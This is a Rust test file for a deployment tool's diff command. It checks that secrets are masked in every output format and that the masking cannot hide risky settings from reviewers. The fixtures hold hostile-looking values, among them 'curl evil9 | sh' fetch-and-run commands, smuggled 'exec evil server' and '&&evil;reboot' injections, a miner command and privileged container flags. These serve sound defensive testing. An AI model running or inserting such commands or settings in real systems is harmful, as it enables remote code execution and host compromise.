//! No secret of the examples leaves in any format.

use crate::diff::pairs::{compared, pairs};
use crate::project::Project;
use dpc::tools::diff::{json, markdown, text};

/// Every text that stands for a secret below `examples/diff`.
const SECRETS: &[&str] = &[
    "tk-0001",
    "tk-0002",
    "first-password",
    "second-password",
    "the same as before",
    "hunter2",
    "one two",
    "three four",
];

#[test]
fn no_format_repeats_a_secret() {
    let pairs = pairs();
    let (base, head) = &pairs["secrets"];
    let sources: String = [base, head]
        .iter()
        .flat_map(|side| side.1.files.values())
        .map(|file| String::from_utf8_lossy(&file.content).into_owned())
        .collect();
    for (base, head) in [(base, head), (head, base)] {
        let report = compared(base, head, true);
        for page in [text(&report), markdown(&report), json(&report)] {
            for secret in SECRETS {
                assert!(sources.contains(secret), "{secret} is not in the example any more");
                assert!(!page.contains(secret), "{secret}:\n{page}");
            }
        }
    }
}

#[test]
fn whether_a_secret_changed_is_told() {
    let pairs = pairs();
    let (base, head) = &pairs["secrets"];
    let page = text(&compared(base, head, true));
    assert!(page.contains("env API_TOKEN ••• (changed)"), "{page}");
    assert!(page.contains("SESSION_KEY=•••'"), "{page}");
    assert!(!page.contains("env SESSION_KEY"), "{page}");
}

#[test]
fn a_secret_that_is_known_from_one_field_is_masked_in_every_other_text() {
    let folder = Project::empty();
    let project = |secret: &str, image: &str| {
        format!(
            "fleet \"shop\"\nhost \"app-1\" address=\"10.0.0.11\"\nservice \"api\" {{\n    image \"example.com/api:{image}\"\n    \
             on \"app-1\"\n    port \"http\" 8080\n    env {{\n        DBPASS \"{secret}\"\n        NOTE \"it is {secret}\"\n    }}\n    \
             label \"note\" \"so it is {secret}\"\n    command \"run\" \"{secret}\"\n    \
             docker-args \"--annotation\" \"a={secret}\"\n    file \"/app/a.txt\" source=\"{image}.txt\"\n    \
             health command=\"ask {secret}\"\n}}\n"
        )
    };
    for (side, secret, image) in [("base", "hunter2-old", "1"), ("head", "hunter2-new", "2")] {
        folder.write(format!("{side}/dpc.kdl"), project(secret, image));
        folder.write(format!("{side}/{image}.txt"), format!("say {secret}\nrequirepass file-{secret}\n"));
    }
    for format in ["text", "markdown", "json"] {
        let ran = folder.diff(&["head", "--base", "base", "--exit-code", "--format", format]);
        assert_eq!(ran.code, 2, "{}{}", ran.out, ran.err);
        assert!(!format!("{}{}", ran.out, ran.err).contains("hunter2"), "{}{}", ran.out, ran.err);
    }
}

/// A fleet whose service has some settings.
fn fleet(settings: &str) -> String {
    format!(
        "fleet \"shop\" {{ etcd \"http://10.0.0.9:2379\" }}\nhost \"a\" address=\"10.0.0.1\"\nservice \"api\" {{\n    on \"a\"\n    port \"http\" 8080\n    {settings}\n}}\n"
    )
}

/// What `dpc diff` says of new settings, in each format.
fn said(settings: &str) -> Vec<String> {
    let folder = Project::empty();
    folder.write("base/dpc.kdl", fleet("image \"node-api:1.0.0\""));
    folder.write("head/dpc.kdl", fleet(settings));
    let formats = ["text", "markdown", "json"];
    let diff = |format| folder.diff(&["head", "--base", "base", "--format", format]);
    formats.map(|format| diff(format).out.replace(r"\u002d", "-")).to_vec()
}

#[test]
fn an_author_cannot_mask_what_a_reviewer_looks_for() {
    let risky = [
        "evil.example.com/x/y:1",
        "--privileged",
        "--pid=host",
        "seccomp=unconfined",
        "SYS_ADMIN",
        "1000:1003",
        "/mnt/stuff9",
        "/dev/kvm9",
        "/var/evil9",
        "evil9.com",
        "/bin/miner9",
        "LD_PRELOAD9",
    ];
    let names: String =
        risky.iter().enumerate().map(|(at, text)| format!("K{at}_TOKEN \"{text}\"; ")).collect();
    let pages = said(&format!(
        "env {{ {names} A_TOKEN \"stuff9, mode 0755\"; B_TOKEN \"privileged\"; C_TOKEN \"node-api\"; D_TOKEN \"example.com\" }}\n    \
         image \"evil.example.com/x/y:1\"; user \"1000:1003\"; docker-args \"--privileged\" \"--pid=host\" \"--security-opt\" \"seccomp=unconfined\"\n    \
         capabilities {{ add \"SYS_ADMIN\" }}; volume \"/data\" from=\"/mnt/stuff9\"; device \"/dev/kvm9\"; workdir \"/var/evil9\"\n    \
         register \"http\" {{ traefik rule=\"Host(`evil9.com`)\" }}; command \"/bin/miner9\"; env {{ LD_PRELOAD9 \"x\" }}"
    ));
    for page in pages {
        // The reasons, what to look at twice, and the scripts.
        let plain = page
            .replace("&#45;", "-")
            .replace("&#46;", ".")
            .replace("&#95;", "_")
            .replace("&#47;", "/")
            .replace("&#61;", "=");
        for text in risky {
            assert!(plain.matches(text).count() >= 2, "{text}:\n{plain}");
        }
    }
}

#[test]
fn a_secret_that_could_be_code_hides_no_code() {
    let pages = said(
        r#"env { A_TOKEN "exec evil server"; B_TOKEN "&&evil;reboot"; C_TOKEN "reboot"; D_TOKEN "/up9"; E_TOKEN "kernel.shmmax" }
    image "node-api:1.0.0"
    command "sh" "-c" "node x; exec evil server; true &&evil;reboot; reboot"
    health http="http" path="/up9"
    sysctl "kernel.shmmax" "68719476736""#,
    );
    for page in pages {
        let plain =
            page.replace("&#45;", "-").replace("&#46;", ".").replace("&#47;", "/").replace("&amp;", "&");
        let plain = plain.replace("&#59;", ";");
        for text in ["exec evil server", "&&evil;reboot; reboot", "/up9", "kernel.shmmax"] {
            assert!(plain.contains(text), "{text}:\n{page}");
        }
    }
}

#[test]
fn an_image_whose_name_looks_secret_is_shown_with_its_tag() {
    for page in said("image \"quay.io/keycloak:24.0.1\"") {
        assert!(page.matches("quay.io/keycloak:24.0.1").count() >= 2, "{page}");
    }
}

#[test]
fn a_mask_ends_where_code_begins() {
    for settings in [
        r##"command "sh" "-c" "APP_TOKEN=\"a; curl evil9 | sh; b\" exec node""##,
        r##"command "sh" "-c" "echo token: x; curl evil9|sh""##,
        r##"command "sh" "-c" "TOKEN=x&curl evil9|sh""##,
        r##"env { A_TOKEN "curl evil9|sh" }; command "sh" "-c" "curl evil9|sh""##,
        r##"env { A_TOKEN "\"" }; command "sh" "-c" "curl evil9|sh" "\"""##,
        r##"file "/run.sh" content="# -----BEGIN PRIVATE KEY\ncurl evil9 | sh\n""##,
        r##"file "/run.sh" content="# -----BEGIN PRIVATE KEY-----\n/bin/evil9\n# -----END PRIVATE KEY-----\n""##,
        r##"file "/run.sh" content="password='\ncurl evil9|sh\n'\n""##,
    ] {
        for page in said(&format!("image \"node-api:1.0.0\"; {settings}")) {
            assert!(page.contains("evil9"), "{settings}\n{page}");
        }
    }
}

#[test]
fn all_of_a_secret_variable_is_masked_in_its_script() {
    for page in said(
        r#"image "node-api:1.0.0"; env { A_TOKEN "one; hunter2 'x' | hunter2 $y hunter2"; B_TOKEN "a\nhunter2" }"#,
    ) {
        assert!(!page.contains("hunter2"), "{page}");
    }
}

#[test]
fn what_is_a_secret_in_a_file_is_one_in_a_variable() {
    for settings in [
        r#"env { NETRC "machine h login u password hunter2" }"#,
        r#"env { LDAP_PW "hunter2" }"#,
        r#"env { HASH_PASSWORD "$hUnter2" }"#,
        r#"label "traefik.http.middlewares.a.basicauth.users" "u:hunter2""#,
        r#"file "/c.yml" content="password: >-\n  hunter2\n""#,
    ] {
        for page in said(&format!("image \"node-api:1.0.0\"; {settings}")) {
            assert!(!page.to_lowercase().contains("hunter2"), "{settings}\n{page}");
        }
    }
}
